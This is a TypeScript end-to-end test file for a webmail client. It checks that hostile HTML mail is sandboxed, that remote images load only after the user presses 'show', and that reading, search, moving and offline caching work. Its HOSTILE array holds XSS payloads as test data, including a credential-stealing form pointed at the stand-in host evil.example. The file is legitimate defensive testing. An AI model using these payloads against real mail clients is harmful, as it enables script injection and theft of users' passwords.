// Reading mail in Chromium against the real gateway and Dovecot: hostile HTML never runs,
// remote content is fetched only after "show", and read/flag/move/delete/search work.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import type { TestBrowser } from '../support/browser.js';
import { signInSpa, startE2E, type E2E } from '../support/e2e.js';
import { createUser, createUsers, imapAs, rawMessage, sendViaPostfix, type TestUser } from '../support/mailstack.js';

let e2e: E2E;
let browser: TestBrowser;
let base: string;
let tracker: Server;
let trackerBase: string;
const trackerHits: string[] = [];

beforeAll(async () => {
  e2e = await startE2E();
  ({ browser, base } = e2e);
  // "Another host": a loopback server on its own port that counts every request.
  tracker = createServer((request, response) => {
    trackerHits.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'image/gif' }).end(Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'));
  });
  await new Promise<void>((resolve) => tracker.listen(0, '127.0.0.1', resolve));
  trackerBase = `http://127.0.0.1:${(tracker.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await e2e?.close();
  await new Promise((resolve) => tracker?.close(resolve));
});

function htmlMessage(to: string, subject: string, html: string): string {
  return [
    'From: "Newsletter" <news@shop.example>',
    `To: ${to}`,
    `Subject: ${subject}`,
    `Date: ${new Date().toUTCString()}`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '',
  ].join('\r\n');
}

const signIn = (page: Page, user: TestUser) => signInSpa(page, base, user);

const HOSTILE = [
  `<script>window.top.__pwned = 1; alert(1)</script><p>Script</p>`,
  `<img src="x" onerror="window.top.__pwned = 2; alert(2)"><p>Onerror</p>`,
  `<svg><animate onbegin="alert(3)" attributeName="x" dur="1s"/></svg><p>SVG</p>`,
  `<a href="javascript:alert(4)">Klick</a><iframe srcdoc="<script>alert(5)</script>"></iframe>`,
  `<form action="${'https://evil.example/steal'}"><input name="pw"><button>Senden</button></form><meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(6)>"></noscript><details open ontoggle="alert(7)">x</details>`,
];

describe('hostile HTML mail', () => {
  it('runs no script and opens no dialog, whatever the mail tries', async () => {
    const user = await createUser('e2e-read');
    const imap = await imapAs(user);
    // Each body ends with its own marker, so the test can tell that the frame shows this message
    // and not the one opened before (which stays on screen until the next one is parsed).
    for (const [i, html] of HOSTILE.entries()) await imap.append('INBOX', htmlMessage(user.address, `Hostile ${i}`, `${html}<p>Ende ${i}</p>`));
    await imap.logout();

    const context = await browser.context();
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await signIn(page, user);
    for (let i = 0; i < HOSTILE.length; i++) {
      await page.getByText(`Hostile ${i}`, { exact: true }).click();
      const frameElement = page.locator('iframe.message-frame');
      await frameElement.waitFor();
      expect(await frameElement.getAttribute('sandbox')).toBe('allow-popups allow-popups-to-escape-sandbox');
      const frame = await (await frameElement.elementHandle())!.contentFrame();
      await expect.poll(async () => (await frame!.locator('body').textContent().catch(() => '')) ?? '').toContain(`Ende ${i}`);
      const dangerous = await frame!.evaluate(() => ({
        // Our frame document's own CSP meta in <head> is the only meta allowed.
        scripts: document.querySelectorAll('script, iframe, form, svg, object, embed, body meta, meta[http-equiv="refresh" i]').length,
        handlers: [...document.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length,
        jsLinks: [...document.querySelectorAll('a')].filter((a) => a.getAttribute('href')?.toLowerCase().includes('javascript')).length,
      }));
      expect(dangerous).toEqual({ scripts: 0, handlers: 0, jsLinks: 0 });
    }
    await page.waitForTimeout(300);
    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    await context.close();
  });

  it('fetches nothing from another host until "show" is pressed', async () => {
    const user = await createUser('e2e-read');
    const imap = await imapAs(user);
    await imap.append('INBOX', htmlMessage(user.address, 'Angebote der Woche', `
      <style>.hero { background: url(${trackerBase}/css-bg.png) }</style>
      <div class="hero">Angebote</div>
      <img src="${trackerBase}/banner.png" alt="Banner" width="300" height="100">
      <img src="${trackerBase}/pixel.gif" width="1" height="1">
      <p style="background-image:url('${trackerBase}/inline.png')">Nur heute</p>`));
    await imap.logout();

    const context = await browser.context();
    const page = await context.newPage();
    await signIn(page, user);
    trackerHits.length = 0;
    await page.getByText('Angebote der Woche').click();
    await page.locator('iframe.message-frame').waitFor();
    await expect.poll(() => page.getByRole('status').textContent()).toMatch(/\d+ remote items .* were blocked/);
    await page.waitForTimeout(500);
    expect(trackerHits).toEqual([]);
    await page.getByRole('button', { name: 'Show them' }).click();
    await expect.poll(() => trackerHits.includes('/banner.png')).toBe(true);
    await context.close();
  });
});

describe('reading and acting on mail', () => {
  it('opens a message and marks it read, flags, moves, deletes, and searches', async () => {
    const user = await createUser('e2e-read');
    const imap = await imapAs(user);
    await imap.append('INBOX', rawMessage('anna@example.com', user.address, 'Grüße aus Köln', 'Liebe Grüße vom Rhein, Anna'));
    await imap.append('INBOX', rawMessage('ben@example.com', user.address, 'Rechnung November', 'Die Rechnung Nummer Zebra-4711 liegt bei.'));
    await imap.append('INBOX', rawMessage('carla@example.com', user.address, 'Treffen am Freitag', 'Wollen wir uns treffen?'));
    await imap.logout();

    const context = await browser.context();
    const page = await context.newPage();
    await signIn(page, user);
    await expect.poll(() => page.locator('.list-row').count()).toBe(3);
    // Newest first.
    expect(await page.locator('.list-row .row-subject').first().textContent()).toBe('Treffen am Freitag');

    // Open: the text shows, the row and the folder count say read.
    await page.getByText('Grüße aus Köln').click();
    await expect.poll(() => page.locator('.plain-body').textContent()).toContain('Liebe Grüße vom Rhein');
    await expect.poll(() => page.locator('nav .folder-link[data-role="inbox"] .count').textContent()).toBe('2');

    // Flag with the keyboard, then move to Trash by deleting.
    await page.keyboard.press('s');
    await expect.poll(() => page.locator('.list-row.open .flag').count()).toBe(1);
    await page.keyboard.press('#');
    await expect.poll(() => page.locator('.list-row').count()).toBe(2);

    // Search on the server, by body text.
    await page.getByLabel('Search mail').fill('Zebra-4711');
    await page.getByRole('button', { name: 'Search' }).click();
    await expect.poll(() => page.locator('.list-row .row-subject').allTextContents()).toEqual(['Rechnung November']);
    expect(new URL(page.url()).searchParams.get('q')).toBe('Zebra-4711');

    // Move it to Junk with the menu.
    await page.locator('.list-row').first().locator('input[type="checkbox"]').check();
    await page.getByRole('button', { name: 'Spam' }).click();
    await expect.poll(() => page.locator('.list-row').count()).toBe(0);

    await page.getByRole('link', { name: /Trash/ }).click();
    await expect.poll(() => page.locator('.list-row .row-subject').allTextContents()).toEqual(['Grüße aus Köln']);
    await page.getByRole('link', { name: /Junk/ }).click();
    await expect.poll(() => page.locator('.list-row .row-subject').allTextContents()).toEqual(['Rechnung November']);
    await context.close();
  });

  it('works on a phone-sized screen: list, message, back', async () => {
    const user = await createUser('e2e-read');
    const imap = await imapAs(user);
    await imap.append('INBOX', rawMessage('anna@example.com', user.address, 'Kurz gefragt', 'Hast du morgen Zeit?'));
    await imap.logout();
    const context = await browser.context({ viewport: { width: 390, height: 844 } });
    const page = await context.newPage();
    await signIn(page, user);
    await page.getByText('Kurz gefragt').click();
    await expect.poll(() => page.locator('.plain-body').textContent()).toContain('Hast du morgen Zeit?');
    expect(await page.locator('.list-pane').isVisible()).toBe(false);
    const width = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(width).toBeLessThanOrEqual(390);
    await page.getByRole('button', { name: 'Back to the list' }).click();
    await expect.poll(() => page.locator('.list-pane').isVisible()).toBe(true);
    await context.close();
  });

  it('shows the keyboard help with ?', async () => {
    const user = await createUser('e2e-read');
    const context = await browser.context();
    const page = await context.newPage();
    await signIn(page, user);
    await page.locator('body').press('?');
    await expect.poll(() => page.getByRole('dialog', { name: 'Keyboard shortcuts' }).isVisible()).toBe(true);
    expect(await page.getByRole('dialog').textContent()).toContain('j – next message');
    await context.close();
  });

  it('shows mail delivered through Postfix without a reload: the row, the count and the tab title', async () => {
    const user = await createUser('e2e-read');
    const imap = await imapAs(user);
    await imap.append('INBOX', rawMessage('anna@example.com', user.address, 'Schon da', 'Alt'), ['\\Seen']);
    await imap.logout();
    const context = await browser.context();
    const page = await context.newPage();
    await signIn(page, user);
    await expect.poll(() => page.locator('.list-row').count()).toBe(1);
    // Give the event stream a moment to connect and report the starting state.
    await page.waitForTimeout(1000);
    const [sender] = await createUsers(1, 'e2e-sender');
    await sendViaPostfix(sender!, user.address, 'Ganz frisch', 'Neu über Postfix');
    await expect.poll(() => page.locator('.list-row .row-subject').first().textContent(), { timeout: 15_000 }).toBe('Ganz frisch');
    await expect.poll(() => page.locator('nav .folder-link[data-role="inbox"] .count').textContent()).toBe('1');
    await expect.poll(() => page.title()).toContain('(1)');
    await context.close();
  });

  it('stays readable offline from the cache, keeps a flag made offline, and applies it when back', async () => {
    const user = await createUser('e2e-read');
    const imap = await imapAs(user);
    await imap.append('INBOX', rawMessage('anna@example.com', user.address, 'Für unterwegs', 'Diesen Text gibt es auch offline.'), ['\\Seen']);
    await imap.append('INBOX', rawMessage('ben@example.com', user.address, 'Nie geöffnet', 'Nur online.'), ['\\Seen']);
    await imap.logout();
    const context = await browser.context();
    const page = await context.newPage();
    await signIn(page, user);
    await page.getByText('Für unterwegs').click();
    await expect.poll(() => page.locator('.plain-body').textContent()).toContain('auch offline');
    await page.getByRole('button', { name: 'Back to the list' }).click();

    await context.setOffline(true);
    await expect.poll(() => page.getByText('You are offline. Showing the mail saved on this device.').isVisible()).toBe(true);
    await page.getByText('Für unterwegs').click();
    await expect.poll(() => page.locator('.plain-body').textContent()).toContain('auch offline');
    await page.keyboard.press('s');
    await expect.poll(() => page.getByRole('alert').textContent()).toContain('kept on this device');

    await context.setOffline(false);
    await expect.poll(() => page.getByRole('alert').textContent(), { timeout: 15_000 }).toContain('Back online: 1 changes');
    const check = await imapAs(user);
    const lock = await check.getMailboxLock('INBOX');
    try {
      const flagged = await check.search({ flagged: true }, { uid: true });
      expect(flagged).toHaveLength(1);
    } finally {
      lock.release();
      await check.logout();
    }
    await context.close();
  });

  it('after a reload without a connection, still shows the cached folder and an opened message', async () => {
    const user = await createUser('e2e-read');
    const imap = await imapAs(user);
    await imap.append('INBOX', rawMessage('anna@example.com', user.address, 'Reiseplan', 'Abfahrt 7:12 Uhr, Gleis 4.'), ['\\Seen']);
    await imap.logout();
    const context = await browser.context();
    const page = await context.newPage();
    await signIn(page, user);
    // The app shell worker is installed and controls the page before the mail is opened.
    await page.evaluate(async () => {
      await navigator.serviceWorker.ready;
      if (!navigator.serviceWorker.controller) await new Promise((resolve) => navigator.serviceWorker.addEventListener('controllerchange', resolve, { once: true }));
    });
    await page.getByText('Reiseplan').click();
    await expect.poll(() => page.locator('.plain-body').textContent()).toContain('Gleis 4');
    const opened = page.url();

    await context.setOffline(true);
    await page.goto(opened);
    await expect.poll(() => page.locator('.plain-body').textContent(), { timeout: 15_000 }).toContain('Gleis 4');
    expect(await page.locator('.list-row .row-subject').first().textContent()).toBe('Reiseplan');
    expect(await page.getByText('You are offline').isVisible()).toBe(true);
    await context.setOffline(false);
    await context.close();
  });
});
